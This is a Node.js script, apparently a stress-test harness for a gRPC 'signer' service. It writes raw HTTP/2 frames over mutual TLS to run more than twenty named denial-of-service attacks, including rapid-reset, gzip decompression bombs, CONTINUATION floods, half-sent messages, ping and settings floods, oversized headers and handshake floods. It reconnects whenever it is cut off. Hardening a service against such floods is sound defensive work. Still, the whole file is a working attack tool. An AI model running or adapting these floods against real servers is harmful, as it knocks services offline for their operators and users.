// A hostile caller: `node flood.cjs ATTACK ADDRESS FOLDER SECONDS`, with ca, cert and key in FOLDER. It writes
// HTTP/2 frames itself, so that no library limits it. It reconnects when it is cut off, and reports at the end what
// it achieved.
const { readFileSync } = require('node:fs');
const tls = require('node:tls');
const zlib = require('node:zlib');

const [attack, address, folder, seconds] = process.argv.slice(2);
const [host, port] = address.split(':');
const read = (name) => readFileSync(`${folder}/${name}`);
const security = {
  ca: read('ca'),
  cert: read('cert'),
  key: read('key'),
  servername: 'signer',
  ALPNProtocols: ['h2'],
};

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const literal = (name, value) => {
  const text = (string) => {
    const bytes = Buffer.from(string);
    const length = bytes.length < 127 ? [bytes.length] : [127, ...varint(bytes.length - 127)];
    return Buffer.concat([Buffer.from(length), bytes]);
  };
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
};
const varint = (value) => (value < 128 ? [value] : [(value % 128) | 128, ...varint(Math.floor(value / 128))]);
const head = (path, extra = []) =>
  Buffer.concat(
    [
      ...[
        [':method', 'POST'],
        [':scheme', 'https'],
        [':authority', 'signer'],
        [':path', path],
      ],
      ...[['content-type', 'application/grpc'], ['te', 'trailers'], ['grpc-timeout', '9S'], ...extra],
    ].map((entry) => (Buffer.isBuffer(entry) ? entry : literal(...entry))),
  );
const open = (stream, path = '/signer.v1.Signer/Calls', extra = []) => frame(1, 4, stream, head(path, extra));
const data = (stream, bytes) => {
  const frames = [];
  for (let at = 0; at < bytes.length; at += 16_384)
    frames.push(frame(0, 0, stream, bytes.subarray(at, at + 16_384)));
  return Buffer.concat(frames);
};
const message = (bytes, compressed = 0) => {
  const prefix = Buffer.alloc(5);
  prefix[0] = compressed;
  prefix.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([prefix, bytes]);
};
const callFrame = (method, id = 1) => {
  const inner = Buffer.from([
    8,
    ...varint(id),
    18,
    method.length,
    ...Buffer.from(method),
    32,
    ...varint(5_000),
  ]);
  return Buffer.from([10, inner.length, ...inner]);
};
/** A root document as large as a request may be, which nobody signed. */
const update = () => {
  const signed = Buffer.from(`{"payload":"${'A'.repeat((1 << 20) - 100)}","signatures":[]}`);
  const request = Buffer.concat([Buffer.from([10, ...varint(signed.length)]), signed]);
  const inner = Buffer.concat([
    Buffer.from([
      8,
      1,
      18,
      11,
      ...Buffer.from('UpdateTrust'),
      32,
      ...varint(5_000),
      26,
      ...varint(request.length),
    ]),
    request,
  ]);
  return Buffer.concat([Buffer.from([10, ...varint(inner.length)]), inner]);
};
const many = (count, bytes) => Buffer.concat(Array.from({ length: count }, () => bytes));
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
/** Grants so much flow control that no answer waits. */
const noFlowControl = frame(8, 0, 0, Buffer.from([0x7f, 0, 0, 0]));

/** `first` opens the connection; `more(turn)` is sent again and again. Streams have odd numbers. */
const attacks = {
  'empty-frames': { first: open(1), more: () => data(1, message(many(400_000, Buffer.from([10, 0])))) },
  'empty-messages': { first: open(1), more: () => data(1, many(50_000, Buffer.alloc(5))) },
  'unknown-fields': { first: open(1), more: () => data(1, message(many(400_000, Buffer.from([24, 1])))) },
  'unknown-methods': {
    first: open(1),
    more: () => data(1, message(many(4_000, callFrame('TakeEverything')))),
  },
  'forbidden-methods': { first: open(1), more: () => data(1, message(many(4_000, callFrame('Sign')))) },
  'allowed-calls': { first: open(1), more: () => data(1, message(many(4_000, callFrame('GetStatus')))) },
  'large-updates': { connections: 2, first: open(1), more: () => data(1, message(update())) },
  'half-messages': {
    connections: 40,
    first: Buffer.concat([open(1), data(1, message(Buffer.alloc(16 << 20)).subarray(0, -1))]),
  },
  'half-messages-on-many-streams': {
    connections: 8,
    first: Buffer.concat(
      Array.from({ length: 60 }, (_, index) =>
        Buffer.concat([
          open(2 * index + 1),
          data(2 * index + 1, message(Buffer.alloc(1 << 20)).subarray(0, -1)),
        ]),
      ),
    ),
  },
  'announced-messages': {
    connections: 40,
    first: Buffer.concat(
      Array.from({ length: 60 }, (_, index) =>
        Buffer.concat([
          open(2 * index + 1),
          frame(0, 0, 2 * index + 1, Buffer.from([0, 0, 0xff, 0xff, 0xff, 1])),
        ]),
      ),
    ),
  },
  'tiny-pieces': {
    first: Buffer.concat([open(1), frame(0, 0, 1, Buffer.from([0, 0, 0xff, 0xff, 0xff]))]),
    more: () => many(20_000, frame(0, 0, 1, Buffer.from([7]))),
  },
  'empty-data': { first: open(1), more: () => many(50_000, frame(0, 0, 1)) },
  'many-streams': {
    more: (turn) =>
      Buffer.concat(Array.from({ length: 500 }, (_, index) => open(2 * (500 * turn + index) + 1))),
  },
  'many-unary-calls': {
    more: (turn) =>
      Buffer.concat(
        Array.from({ length: 500 }, (_, index) =>
          open(2 * (500 * turn + index) + 1, '/signer.v1.Signer/Sign'),
        ),
      ),
  },
  'rapid-reset': {
    more: (turn) =>
      Buffer.concat(
        Array.from({ length: 500 }, (_, index) => 2 * (500 * turn + index) + 1).flatMap((stream) => [
          open(stream),
          frame(3, 0, stream, Buffer.from([0, 0, 0, 8])),
        ]),
      ),
  },
  pings: { more: () => many(10_000, frame(6, 0, 0, Buffer.alloc(8))) },
  settings: { more: () => many(10_000, frame(4, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))) },
  'window-updates': { more: () => many(10_000, frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))) },
  continuations: {
    first: frame(1, 0, 1, literal('a', 'b'.repeat(100))),
    more: () => many(1_000, frame(9, 0, 1, literal('a', 'b'.repeat(4_000)))),
  },
  'large-heads': {
    more: (turn) =>
      Buffer.concat(
        Array.from({ length: 100 }, (_, index) => 2 * (100 * turn + index) + 1).map((stream) =>
          frame(1, 4, stream, head('/signer.v1.Signer/Calls', [['x-trace-id', 'b'.repeat(12_000)]])),
        ),
      ),
  },
  'compressed-bombs': {
    first: open(1, '/signer.v1.Signer/Calls', [['grpc-encoding', 'gzip']]),
    more: () => data(1, message(zlib.gzipSync(Buffer.alloc(16 << 20)), 1)),
  },
  'ids-of-70-bits': { first: Buffer.concat([open(1), data(1, message(callFrame('GetStatus', 2 ** 60)))]) },
  'health-checks': {
    more: (turn) =>
      Buffer.concat(
        Array.from({ length: 500 }, (_, index) =>
          open(2 * (500 * turn + index) + 1, '/grpc.health.v1.Health/Check'),
        ),
      ),
  },
  handshakes: { connections: 50, again: true },
  'handshakes-without-certificate': { connections: 50, again: true, anonymous: true },
};

const { connections = 4, first = Buffer.alloc(0), more, again, anonymous } = attacks[attack];
const end = Date.now() + Number(seconds) * 1000;
let [connected, sent, cut] = [0, 0, 0];

function come() {
  if (Date.now() >= end) return;
  const mine = anonymous ? { ...security, cert: undefined, key: undefined } : security;
  const socket = tls.connect({ host, port: Number(port), ...mine });
  let turn = 0;
  const write = () => {
    while (more && !socket.destroyed && Date.now() < end) {
      const bytes = more(turn++);
      sent += bytes.length;
      if (!socket.write(bytes)) return;
    }
  };
  socket.on('secureConnect', () => {
    connected++;
    if (again) {
      socket.destroy();
      return;
    }
    socket.write(Buffer.concat([preface, noFlowControl, first]), () => {
      sent += first.length;
    });
    write();
  });
  socket.on('data', () => undefined);
  socket.on('drain', write);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    cut++;
    setTimeout(come, 5);
  });
}
for (let index = 0; index < connections; index++) come();
setTimeout(
  () => {
    process.stdout.write(JSON.stringify({ connected, sent, cut }));
    process.exit(0);
  },
  Number(seconds) * 1000 + 100,
);
